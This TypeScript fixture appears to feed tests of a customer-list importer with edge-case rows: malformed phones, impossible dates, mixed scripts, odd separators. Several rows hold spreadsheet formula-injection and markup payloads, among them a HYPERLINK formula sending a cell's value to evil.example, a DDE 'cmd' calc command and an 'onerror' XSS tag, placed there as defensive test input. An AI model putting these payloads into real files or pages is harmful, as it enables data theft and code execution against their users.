import type { RawCell } from '../files/rawTable';
import type { ColumnKey } from './columns';
import { fullWidth } from './typed';

/** A customer with something in it that a reader of lists must survive. Cells that are not named are blank. */
export interface Curiosity {
  readonly what: string;
  readonly cells: Partial<Readonly<Record<ColumnKey, string | RawCell>>>;
}

const LONG_NOTE = '客户在电话里详细说明了需求，要求逐条记录。'.repeat(150);

/** Each stands in every sample exactly once, whatever the seed. */
export const CURIOSITIES: readonly Curiosity[] = [
  {
    what: 'a formula as text that would fetch a page',
    cells: { name: '=HYPERLINK("http://evil.example/?x="&B2,"点我")', phone: '13800009901' },
  },
  { what: 'a command as Excel would run it', cells: { name: "+cmd|' /C calc'!A0", email: 'cmd@example.com' } },
  { what: 'a function with an at sign', cells: { name: '@SUM(1+1)*cmd', phone: '13800009902' } },
  { what: 'a formula in full width', cells: { name: '测试客户', phone: '13800009903', notes: '＝1+1' } },
  { what: 'a negative start that is no number', cells: { name: '钱多多', phone: '13800009904', notes: '-2+3+cmd' } },
  { what: 'markup', cells: { name: '<img src=x onerror=alert(1)>', email: 'markup@example.com' } },
  { what: 'emoji in the name', cells: { name: '小明🌟', phone: '13800009905', notes: '👨‍👩‍👧‍👦 一家人都是老客户 ❤️' } },
  {
    what: 'traditional characters',
    cells: { name: '陳國強', company: '臺灣長榮貿易有限公司', phone: '+886912345678', notes: '請用繁體聯繫' },
  },
  { what: 'a very long note', cells: { name: '何静', phone: '13800009906', notes: LONG_NOTE } },
  {
    what: 'a note of several lines',
    cells: { name: '郑洁', phone: '13800009907', notes: '第一次来访\n第二次来访\r\n第三次："再议"' },
  },
  { what: 'a phone that Excel rounded', cells: { name: '高峰', phone: '1.38E+10' } },
  {
    what: 'a phone as a number in scientific format',
    cells: { name: '罗成', phone: { value: 13800009908, numberFormat: '0.00E+00' } },
  },
  { what: 'a phone one digit short', cells: { name: '马超群', phone: '1380000990' } },
  { what: 'a phone that is a word', cells: { name: '周转', phone: '见名片' } },
  { what: 'three phones in a cell', cells: { name: '孙三', phone: '13800009909、13800009910 或 0755-55501234' } },
  {
    what: 'a landline with an extension in the phone column',
    cells: { name: '北京远景科技有限公司', phone: '010-55508888转801' },
  },
  { what: 'a phone in full width with brackets', cells: { name: '许愿', phone: fullWidth('(+86)13800009911') } },
  { what: 'an e-mail with two domains', cells: { name: '韩梅', email: 'han@mei@example.com' } },
  {
    what: 'two e-mails with Chinese separators',
    cells: { name: '邓肯', email: 'deng＠example.com；ken@example.org、' },
  },
  { what: 'a day that never was', cells: { name: '曹操作', phone: '13800009912', firstContact: '2023/6/31' } },
  {
    what: 'a day that can be read two ways',
    cells: { name: 'Ann Doubt', email: 'ann@example.com', firstContact: '1/3/2024' },
  },
  { what: 'half a date', cells: { name: '袁月', phone: '13800009913', firstContact: '2024年3月' } },
  { what: 'a day in words', cells: { name: '于谦和', phone: '13800009914', nextContact: '下周三' } },
  {
    what: 'a day with the weekday',
    cells: { name: '董事', phone: '13800009915', nextContact: '2024年3月1日（星期五）' },
  },
  {
    what: 'a credit code with a wrong check character',
    cells: { name: '上海错码贸易有限公司', creditCode: '91310115MA1K00000Z' },
  },
  {
    what: 'an old registration number instead of a credit code',
    cells: { name: '旧照商行', creditCode: '440301103456789', phone: '13800009916' },
  },
  {
    what: 'an option nobody knows',
    cells: { name: '费解', phone: '13800009917', stage: '再说吧', source: '不记得了' },
  },
  { what: 'an amount in words', cells: { name: '金额', phone: '13800009918', budget: '大概两三万吧' } },
  { what: 'an amount in ten thousands', cells: { name: '万元户', phone: '13800009919', budget: '1.2万' } },
  {
    what: 'an amount in another currency',
    cells: { name: 'Eva Euro', email: 'eva@example.com', budget: '1 200,00 €' },
  },
  { what: 'zero-width marks', cells: { name: '隐\u200B形\uFEFF人', phone: '138\u200B00009920' } },
  { what: 'right-to-left text', cells: { name: 'محمد علي', phone: '+971501234567' } },
  {
    what: 'a dash for everything unknown',
    cells: { name: '梁山', phone: '13800009921', email: '-', landline: '无', address: 'N/A' },
  },
  {
    what: 'a tag list with every separator',
    cells: { name: '唐标签', phone: '13800009922', tags: '重点、老客户，VIP; 展会|wholesale／需回访' },
  },
  { what: 'only a phone', cells: { phone: '13800009923' } },
  { what: 'only an e-mail', cells: { email: 'nobody@example.com' } },
  { what: 'an owner who has left', cells: { name: '宋离', phone: '13800009924', owner: '张三(已离职)' } },
  { what: 'text where a number is called for', cells: { no: '三十', name: '史前', phone: '13800009925' } },
];

/** Rows with neither a name nor a way to reach anybody: to be held, not lost. */
export const NOTE_ONLY: readonly string[] = [
  '以上客户由展会收集，名片在Linda处',
  '※以下为2023年新增',
  'TODO: ask David about these',
];
